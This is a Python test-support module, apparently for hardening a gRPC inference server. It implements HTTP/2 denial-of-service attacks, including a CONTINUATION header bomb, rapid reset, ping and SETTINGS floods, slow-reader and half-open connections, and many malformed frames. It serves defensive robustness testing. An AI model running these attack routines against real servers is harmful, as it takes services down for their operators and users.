"""What hostile or broken HTTP/2 peers do to a gRPC server. Each attack ends by itself.

An attack is a function of a Target. It asserts nothing: whether the server is well is for the test
to say. Sizes are arguments where a bare gRPC 1.51 pays for them.
"""

import contextlib
import time
from dataclasses import dataclass

from hyperframe import frame as frames

from lib.http2 import (
    PREFACE,
    Headers,
    Http2,
    close_all,
    grpc_headers,
    grpc_message,
    joined,
    open_socket,
    raw_frame,
)
from lib.wire import STREAM, generate_request

GENERATE = "/dorad.v1.InferenceService/Generate"


@dataclass(frozen=True)
class Target:
    """Where to connect to; with TLS it is the proxy."""

    address: str
    tls: bool

    def connect(self) -> Http2:
        return Http2(self.address, self.tls)


def _request(max_tokens: int) -> bytes:
    request = generate_request([11, 12, 13], max_tokens=max_tokens, ignore_eos=True, mode=STREAM)
    return request.SerializeToString()


# --- Floods


def header_bomb(target: Target, megabytes: int) -> None:
    """One header value of many MB in CONTINUATION frames (CVE-2023-33953)."""
    with target.connect() as peer:
        peer.greet()
        start = peer.headers_frames(1, grpc_headers(GENERATE))
        # The block goes on after the ordinary fields: a literal whose value has `size` bytes.
        size = megabytes << 20
        peer.send(raw_frame(1, 0, 1, start[9:] + b"\x00\x01x\x7f" + _varint(size - 127)))
        piece = raw_frame(9, 0, 1, b"a" * 16384)
        for data in joined([piece] * (size // 16384), at_once=16):
            if not peer.send(data):
                return
        peer.send(raw_frame(9, 4, 1, b""))
        peer.closed_within(5)


def _varint(value: int) -> bytes:
    data = b""
    while value >= 128:
        data += bytes([value % 128 + 128])
        value //= 128
    return data + bytes([value])


def _metadata(target: Target, headers: Headers, acknowledged: bool) -> None:
    for _ in range(5):
        with target.connect() as peer:
            peer.greet()
            if acknowledged:
                peer.read(0.2)
                peer.acknowledge()
            peer.send(peer.headers_frames(1, grpc_headers(GENERATE, *headers)))
            data = frames.DataFrame(1, data=grpc_message(_request(1)), flags=["END_STREAM"])
            peer.frame(data)
            peer.closed_within(0.5)


def metadata_12k(target: Target, acknowledged: bool) -> None:
    """More than gRPC's default limit, sent before its SETTINGS are acknowledged, or after."""
    _metadata(target, [("x-a", "v" * 12_000)], acknowledged)


def metadata_40k(target: Target, acknowledged: bool) -> None:
    _metadata(target, [("x-a", "v" * 40_000)], acknowledged)


def many_tiny_headers(target: Target) -> None:
    """Few bytes, many fields: each costs the receiver more than the sender."""
    _metadata(target, [(f"a{i % 10}", str(i)) for i in range(4000)], True)


def rapid_reset(target: Target, streams: int) -> None:
    """Whole requests that are reset as soon as they are sent (CVE-2023-44487)."""
    body, batch = grpc_message(_request(1000)), 100
    with target.connect() as peer:
        peer.greet()
        for first in range(1, 2 * streams, 2 * batch):
            numbers = range(first, first + 2 * batch, 2)
            calls = b"".join(
                peer.headers_frames(number, grpc_headers(GENERATE))
                + frames.DataFrame(number, data=body, flags=["END_STREAM"]).serialize()
                for number in numbers
            )
            resets = b"".join(
                frames.RstStreamFrame(number, error_code=8).serialize() for number in numbers
            )
            # One after the other: what is reset in the piece that brought it never starts.
            if not (peer.send(calls) and peer.send(resets)):
                return
        peer.closed_within(2)


def ping_flood(target: Target, pings: int) -> None:
    """Pings whose answers nobody reads."""
    with target.connect() as peer:
        peer.greet()
        ping = frames.PingFrame(0, opaque_data=b"12345678").serialize()
        for data in joined([ping] * pings, at_once=1000):
            if not peer.send(data):
                return


def settings_flood(target: Target, count: int) -> None:
    with target.connect() as peer:
        peer.greet()
        settings = frames.SettingsFrame(0, settings={4: 1 << 16}).serialize()
        for data in joined([settings] * count, at_once=1000):
            if not peer.send(data):
                return


def empty_data_flood(target: Target, count: int) -> None:
    """DATA frames without data, on a call that never comes to an end."""
    with target.connect() as peer:
        peer.greet()
        peer.send(peer.headers_frames(1, grpc_headers(GENERATE)))
        empty = frames.DataFrame(1, data=b"").serialize()
        for data in joined([empty] * count, at_once=1000):
            if not peer.send(data):
                return


# --- Peers that keep something open


def half_open(target: Target, connections: int, closed_within: float) -> bool:
    """Connections that stop before the preface, inside it, and inside a request.

    True when the peer has closed all of them in time.
    """
    stages = [b"", PREFACE[:10], b"\x16\x03\x01\x02\x00\x01" if target.tls else b"POST / HT"]
    sockets, peers = [], []
    for index in range(connections):
        if index % 4 == 3:
            peer = target.connect()
            peers.append(peer)
            peer.greet()
            # HEADERS without END_HEADERS: the block never comes to its end.
            peer.send(raw_frame(1, 0, 1, b"\x83"))
        else:
            one = open_socket(target.address)
            sockets.append(one)
            with contextlib.suppress(OSError):
                one.sendall(stages[index % 4])
    end = time.monotonic() + closed_within
    open_still = [one for one in sockets if not _closed(one, end)]
    open_still += [peer for peer in peers if not peer.closed_within(end - time.monotonic())]
    close_all(sockets)
    close_all([peer.socket for peer in peers])
    return not open_still


def _closed(one, end: float) -> bool:
    one.settimeout(max(0.01, end - time.monotonic()))
    try:
        return one.recv(1024) == b"" or _closed(one, end)
    except TimeoutError:
        return False
    except OSError:
        return True


def slow_reader(target: Target, streams: int, seconds: float) -> int:
    """Long answers are asked for, and no window is given to send them in.

    How many of the calls the peer ended; `seconds` are waited for all of them.
    """
    with target.connect() as peer:
        peer.greet(INITIAL_WINDOW_SIZE=0)
        for stream in range(1, 2 * streams, 2):
            peer.call(stream, GENERATE, _request(100))
        ended, end = 0, time.monotonic() + seconds
        while ended < streams and time.monotonic() < end:
            ended += sum(isinstance(frame, frames.RstStreamFrame) for frame in peer.read(0.2))
        return ended


# --- Broken peers, after gRPC's own bad_client programs


def _send(target: Target, *parts: bytes) -> None:
    with target.connect() as peer:
        peer.send(PREFACE + frames.SettingsFrame(0).serialize() + b"".join(parts))
        peer.closed_within(0.3)


def _call_with(target: Target, headers: Headers) -> None:
    with target.connect() as peer:
        peer.greet()
        peer.send(peer.headers_frames(1, headers))
        peer.frame(frames.DataFrame(1, data=grpc_message(_request(1)), flags=["END_STREAM"]))
        peer.closed_within(0.3)


def broken_peers(target: Target) -> None:
    """Each breaks one rule of HTTP/2 or of gRPC on a connection of its own."""
    good = grpc_headers(GENERATE)
    _call_with(target, grpc_headers(GENERATE, ("grpc-timeout", "15x")))
    _call_with(target, grpc_headers(GENERATE, ("grpc-timeout", "9" * 30 + "S")))
    _call_with(target, [*good[:3], (":path", "/foo/bar"), *good[3:]])
    _call_with(target, [(name, "frobnicator" if name == "te" else v) for name, v in good])
    _call_with(target, [*good, ("te", "trailers"), ("content-type", "text/plain")])
    _call_with(target, [*good, ("grpc-encoding", "zip-of-death")])
    _call_with(target, [*good, ("grpc-status-details-bin", "!!!not base64!!!")])
    _call_with(target, [*good, ("X-Upper", "1"), ("x-nul", "a\0b"), ("x-line", "a\r\nb: c")])
    _call_with(target, [header for header in good if header[0] != ":path"])
    _call_with(target, [*good, (":path", "/late/pseudo")])
    _call_with(target, [(n, "CONNECT" if n == ":method" else v) for n, v in good])
    with target.connect() as peer:
        head = peer.headers_frames(1, good)
        block = head[9:]
    window = frames.WindowUpdateFrame(0, window_increment=2**31 - 1).serialize()
    _send(target, window, window)
    _send(target, head, raw_frame(8, 0, 1, b"\x7f\xff\xff\xff") * 2)
    _send(target, raw_frame(8, 0, 0, b"\0\0\0\0"))
    _send(target, raw_frame(0xEE, 0xFF, 1, b"unknown"))
    _send(target, raw_frame(1, 4, 2, block))  # a client's streams have odd numbers
    _send(target, raw_frame(1, 4, 0, block))
    _send(target, raw_frame(1, 4, 7, block), raw_frame(1, 4, 5, block))
    _send(target, raw_frame(0, 0, 0, b"abc"))
    _send(target, raw_frame(0, 1, 9, b"data on an idle stream"))
    _send(target, raw_frame(3, 0, 9, b"\0\0\0\x08"))
    _send(target, head, raw_frame(0, 0, 1, b"", length=2**24 - 1), b"x" * 100_000)
    _send(target, raw_frame(4, 0, 0, b"12345"))
    _send(target, raw_frame(4, 1, 0, b"\0\4\0\0\0\0"))
    _send(target, raw_frame(6, 0, 0, b"short"))
    _send(target, raw_frame(9, 4, 1, block))  # CONTINUATION of nothing
    _send(target, raw_frame(1, 0, 1, block), raw_frame(6, 0, 0, b"12345678"))
    _send(target, raw_frame(1, 0xC, 1, b"\xff" + block))  # more padding than frame
    _send(target, raw_frame(1, 4, 1, b"\xff" * 50))
    _send(target, raw_frame(1, 4, 1, b"\x3f\xff\xff\xff\xff\xff\xff\xff\xff"))
    _send(target, raw_frame(5, 4, 1, b"\0\0\0\2" + block))  # PUSH_PROMISE from a client
    _send(target, head, raw_frame(0, 1, 1, b"\x01\xff\xff\xff\xff"))  # a message of 4 GiB
    _send(target, head, raw_frame(0, 1, 1, grpc_message(b"\xff\xff not protobuf")))
    _send(target, head, raw_frame(0, 1, 1, b""), raw_frame(0, 1, 1, b"after the end"))
    for start in (b"GET / HTTP/1.1\r\n\r\n", b"\0" * 1000, PREFACE[:-2] + b"XX", b"\xff" * 5000):
        with target.connect() as peer:
            peer.send(start)
            peer.closed_within(0.3)
